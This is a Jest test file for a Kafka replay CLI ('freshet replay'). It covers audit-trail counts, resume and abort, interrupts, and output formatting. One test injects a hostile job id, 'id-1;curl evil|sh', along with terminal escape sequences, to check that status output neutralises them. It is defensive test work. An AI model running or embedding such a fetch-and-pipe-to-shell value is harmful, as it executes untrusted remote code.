import type { KafkaPort } from "@freshet/kafka";
import { FreshetError } from "@freshet/protocol";
import { type Job, jobSchema } from "@freshet/replay";
import { describe, expect, test } from "@jest/globals";
import { createReplayWorld } from "../../tests/replay-world.js";
import { transcript, type World } from "../../tests/transcript.js";

const history = ["replay", "history", "--topic", "shop.products", "--from", "2h", "--to", "0s", "--rules", "corrected.yaml"];
const apply = [...history, "--apply"];
const dlq = ["replay", "dlq", "--rules", "corrected.yaml"];
const encoder = new TextEncoder();

type ReplayWorld = Awaited<ReturnType<typeof createReplayWorld>>;

function auditOf({ log }: ReplayWorld) {
  return log.records("freshet.audit.blue").map(({ value }) => JSON.parse(Buffer.from(value ?? []).toString()));
}

/** A job that is done, put back to another state. */
async function jobThat(made: ReplayWorld, over: Partial<Job>): Promise<Job> {
  const { send, kafka, world } = made;
  await send("1", "7");
  const done = jobSchema.parse(JSON.parse((await transcript([...apply, "--json"], world)).out.join("")));
  const job = { ...done, ...over };
  await kafka.produce([
    { topic: "freshet.jobs.blue", key: encoder.encode("job/id-1"), value: encoder.encode(JSON.stringify(job)), headers: [] },
  ]);
  return job;
}

/** A store of which the first busts are done and later ones fail, as at a disk that is full. */
function failingAfter(made: ReplayWorld, calls: number): World {
  const { store } = made.world;
  if (store === undefined) throw new Error("no store");
  let left = calls;
  const bust: typeof store.bust = async (busts) => {
    if (left-- <= 0) throw new FreshetError("FR2003", "halt", "no memory", "Make room.");
    return await store.bust(busts);
  };
  return { ...made.world, store: { ...store, bust } };
}

describe("the audit trail of replays", () => {
  test("counts what went before a failure", async () => {
    const made = await createReplayWorld();
    for (let at = 0; at < 300; at++) await made.send("1", "7");
    const { code, talk } = await transcript(apply, failingAfter(made, 1));
    expect([code, talk.join("\n")]).toEqual([1, expect.stringContaining("freshet replay resume id-1")]);
    expect(auditOf(made)).toMatchObject([
      { outcome: "started", counts: {} },
      { outcome: "failed", error: "FR2003", counts: { records: 200, removed: 2 } },
    ]);
  });

  test("of an abort counts nothing: the runs of the job have counted", async () => {
    const made = await createReplayWorld();
    await jobThat(made, { status: "stopped", endedAt: null });
    expect((await transcript(["replay", "abort", "id-1"], made.world)).code).toBe(0);
    expect(auditOf(made).slice(2)).toMatchObject([
      { action: "replay abort", outcome: "started" },
      { action: "replay abort", outcome: "done", counts: {} },
    ]);
    expect(auditOf(made).at(-1).counts).toEqual({});
  });

  test.each(["done", "aborted"] as const)("says nothing of an abort that is refused, as the job is %s: 2", async (status) => {
    const made = await createReplayWorld();
    await jobThat(made, { status });
    const before = auditOf(made).length;
    expect((await transcript(["replay", "abort", "id-1"], made.world)).code).toBe(2);
    expect(auditOf(made)).toHaveLength(before);
  });
});

describe("jobs as whoever may write to their topic has written them", () => {
  test("steer no terminal and put no command into anybody's mouth", async () => {
    const made = await createReplayWorld();
    const job = await jobThat(made, {
      status: "stopped",
      endedAt: null,
      because: "\u001b[2Jgone\nreplay",
      by: { user: "\u009bx", host: "h" },
    });
    const [id, value] = ["id-1;curl evil|sh", encoder.encode(JSON.stringify({ ...job, id: "id-1;curl evil|sh" }))];
    await made.kafka.produce([{ topic: "freshet.jobs.blue", key: encoder.encode(`job/${id}`), value, headers: [] }]);
    const all = await transcript(["replay", "status"], made.world);
    const one = await transcript(["replay", "status", "id-1"], made.world);
    const json = await transcript(["replay", "status", "id-1", "--json"], made.world);
    const told = [all, one, json].flatMap(({ out, talk }) => [...out, ...talk]);
    expect(told.filter((line) => /[\p{C}\u007f-\u009f]/u.test(line.replaceAll("\u{fffd}", "")))).toEqual([]);
    expect(told.join("\n")).not.toContain("evil");
    expect(one.out).toContain("by       \u{fffd}x on h: \u{fffd}[2Jgone replay");
    expect(JSON.parse(json.out.join(""))).toEqual(job);
  });
});

describe("how to go on with a job", () => {
  const flags = ["--kafka-brokers", "localhost:9092,127.0.0.1:9093", "--redis-prefix", "it's:", "--deployment", "blue"];
  const command = "freshet replay resume id-1 --deployment blue --kafka-brokers localhost:9092,127.0.0.1:9093 --redis-prefix 'it'\\''s:'";

  test("is told with the settings that were given as flags, as a shell reads them", async () => {
    const made = await createReplayWorld();
    await jobThat(made, { status: "stopped", endedAt: null });
    const { talk } = await transcript(["replay", "status", "id-1", ...flags], made.world);
    expect(talk).toEqual([`it can go on where it was: ${command}`]);
  });

  test("is told of one that runs and writes nothing any more", async () => {
    const made = await createReplayWorld();
    const runner = { host: "ops-2", pid: 7, token: "t" };
    const running = { status: "running", endedAt: null, runner } as const;
    await jobThat(made, { ...running, updatedAt: "2025-12-31T23:59:50.000Z" });
    expect((await transcript(["replay", "status", "id-1"], made.world)).talk).toEqual([]);
    await jobThat(made, { ...running, updatedAt: "2025-12-31T23:57:00.000Z" });
    expect((await transcript(["replay", "status", "id-1"], made.world)).talk).toEqual([
      "it has written nothing for 3 min; if its process died, it can go on where it was: freshet replay resume id-1 --deployment blue",
    ]);
  });
});

describe("freshet replay resume", () => {
  test.each([
    ["that is not there", "missing.yaml", 2],
    ["that has findings", "broken.yaml", 2],
    ["other than the job's", "rules.yaml", 4],
  ] as const)("with a rules file %s leaves the job as it was", async (_what, file, code) => {
    const made = await createReplayWorld();
    await jobThat(made, { status: "stopped", endedAt: null });
    const before = made.log.records("freshet.jobs.blue").length;
    const files = { ...made.world.files, "broken.yaml": "freshet: 1\n" };
    expect((await transcript(["replay", "resume", "id-1", "--rules", file], { ...made.world, files })).code).toBe(code);
    expect(made.log.records("freshet.jobs.blue")).toHaveLength(before);
  });

  const open = { status: "stopped", endedAt: null, total: 3 } as const;
  const three = [[{ topic: "shop.products", partition: 0, from: 0, to: 3 }]];

  test("says what retention took since it was planned", async () => {
    const made = await createReplayWorld();
    await made.send("1", "7");
    await made.send("2", "7");
    await jobThat(made, { ...open, left: three });
    const offsets: KafkaPort["offsets"] = async (topics) =>
      (await made.kafka.offsets(topics)).map((at) => (at.topic === "shop.products" ? { ...at, earliest: 2 } : at));
    const { code, talk } = await transcript(["replay", "resume", "id-1"], { ...made.world, kafka: { ...made.kafka, offsets } });
    expect([code, talk[0]]).toEqual([0, "2 offsets that were left are no longer in shop.products: what they held is not replayed"]);
  });

  test("of a topic that was made anew says so, and leaves the job as it was: 1", async () => {
    const made = await createReplayWorld();
    await jobThat(made, { ...open, left: three });
    const before = made.log.records("freshet.jobs.blue").length;
    const { code, talk } = await transcript(["replay", "resume", "id-1"], made.world);
    expect([code, talk[0]]).toEqual([1, "FR3002 shop.products ends before what the job has still to read"]);
    expect(made.log.records("freshet.jobs.blue")).toHaveLength(before);
  });

  test("gives the job back where the audit trail cannot be written", async () => {
    const made = await createReplayWorld();
    await jobThat(made, { status: "stopped", endedAt: null });
    const produce: KafkaPort["produce"] = (records) => {
      if (records.some(({ topic }) => topic === "freshet.audit.blue")) return Promise.reject(away);
      return made.kafka.produce(records);
    };
    const { code, talk } = await transcript(["replay", "resume", "id-1"], { ...made.world, kafka: { ...made.kafka, produce } });
    expect([code, talk.join("\n")]).toEqual([5, expect.stringContaining("nothing was done, as the audit trail cannot be written")]);
    const { out } = await transcript(["replay", "status", "id-1", "--json"], made.world);
    expect(JSON.parse(out.join(""))).toMatchObject({ status: "stopped", runner: null });
  });
});

const away = new FreshetError("FR3001", "wait", "Kafka is away", "Wait.");

describe("freshet replay abort", () => {
  test("tells what it did when only the outcome cannot be written: 5", async () => {
    const made = await createReplayWorld();
    await jobThat(made, { status: "stopped", endedAt: null });
    let entries = 0;
    const produce: KafkaPort["produce"] = (records) => {
      if (records.some(({ topic }) => topic === "freshet.audit.blue") && ++entries > 1) return Promise.reject(away);
      return made.kafka.produce(records);
    };
    const { code, out, talk } = await transcript(["replay", "abort", "id-1"], { ...made.world, kafka: { ...made.kafka, produce } });
    expect([code, out[0]]).toEqual([5, "job      id-1 aborted: history of shop.products"]);
    expect(talk[0]).toBe("FR3001 it is done, but its outcome is missing in the audit trail: Kafka is away");
  });

  test("stopped meanwhile, it ends nothing: 130", async () => {
    const made = await createReplayWorld();
    await jobThat(made, { status: "stopped", endedAt: null });
    const { code, out } = await transcript(["replay", "abort", "id-1"], { ...made.world, stop: AbortSignal.abort() });
    expect([code, out]).toEqual([130, []]);
    expect(auditOf(made)).toHaveLength(2);
  });
});

test("Ctrl-C while a broker is asked that does not answer: 130", async () => {
  const made = await createReplayWorld();
  const stop = new AbortController();
  const offsets = (): Promise<never> => {
    stop.abort();
    return Promise.reject(away);
  };
  const world = { ...made.world, kafka: { ...made.kafka, offsets }, stop: stop.signal };
  expect((await transcript(history, { ...world, interrupt: stop.signal })).code).toBe(130);
  expect((await transcript(history, world)).code).toBe(5);
});

test("a plan that fails takes its bar away before it tells why", async () => {
  const made = await createReplayWorld();
  await made.send("1", "7");
  const drawn: (string | null)[] = [];
  const kafka = { ...made.kafka, read: () => Promise.reject(away) };
  const { code } = await transcript(history, { ...made.world, kafka, draw: (line) => void drawn.push(line) });
  expect([code, drawn.at(-1)]).toEqual([5, null]);
});

describe("freshet replay: the question for the deployment's name", () => {
  const argv = [...apply, "--confirm-above", "1"];

  test("Ctrl-C: 130, and nothing is changed", async () => {
    const { send, world, store } = await createReplayWorld();
    await send("1", "7");
    const stop = new AbortController();
    const { code } = await transcript(argv, { ...world, stop: stop.signal, onAsk: () => stop.abort() });
    expect(code).toBe(130);
    expect(await store.seed.has("product:1")).toBe(true);
  });

  test("Ctrl-D: 4, and says that nothing was typed", async () => {
    const { send, world } = await createReplayWorld();
    await send("1", "7");
    const { code, talk } = await transcript(argv, { ...world, answers: [""] });
    expect([code, talk[0]]).toEqual([4, "FR1005 nothing was typed; nothing was changed"]);
  });
});

describe("what replays print", () => {
  test("fits into 80 columns", async () => {
    const made = await createReplayWorld();
    const failing = { rule_error: 100, version_invalid: 200, undecodable: 300, unmappable: 400 };
    const job = await jobThat(made, { because: "the wrong file was deployed ".repeat(5).trim(), runs: 2 });
    const counts = { ...job.counts, failing, exact: false, inexactBecause: ["many_keys", "two_runs", "slice_run_again"] as const };
    await jobThat(made, { ...job, counts: { ...counts, inexactBecause: [...counts.inexactBecause] } });
    const one = await transcript(["replay", "status", "id-1"], made.world);
    const all = await transcript(["replay", "status"], made.world);
    expect([...one.out, ...all.out].filter((line) => line.length > 80)).toEqual([]);
    expect(one.out.join("\n")).toContain("unmappable 400");
    const why = one.out.findIndex((line) => line.includes("two runs:"));
    expect(one.out[why + 1]).toMatch(/^ {11}\S/);
    expect(one.out.join(" ").replace(/ +/g, " ")).toContain("two runs: keys that both touched count twice");
  });

  test("names foreign letters where they alone make the exit code", async () => {
    const { fail, world } = await createReplayWorld();
    await fail("1", "7", { topic: "other.topic" });
    const { code, talk, out } = await transcript(dlq, world);
    expect([code, talk.at(-1)]).toEqual([3, "exit code 3: 1 foreign"]);
    expect(out).toContain("           foreign                  1   topic not declared, or place not known");
  });
});

describe("freshet replay --apply without Freshet's own topics", () => {
  test("ends before it plans: 2", async () => {
    const { world } = await createReplayWorld();
    const { kafka } = world;
    if (kafka === undefined) throw new Error("no broker");
    const bare: typeof kafka = {
      ...kafka,
      describeTopics: async () => [],
      read: () => Promise.reject(new Error("it planned")),
    };
    const { code, talk } = await transcript(apply, { ...world, kafka: bare });
    expect([code, talk[0]]).toEqual([2, "FR3002 there is no topic freshet.jobs.blue, and no freshet.audit.blue"]);
  });
});
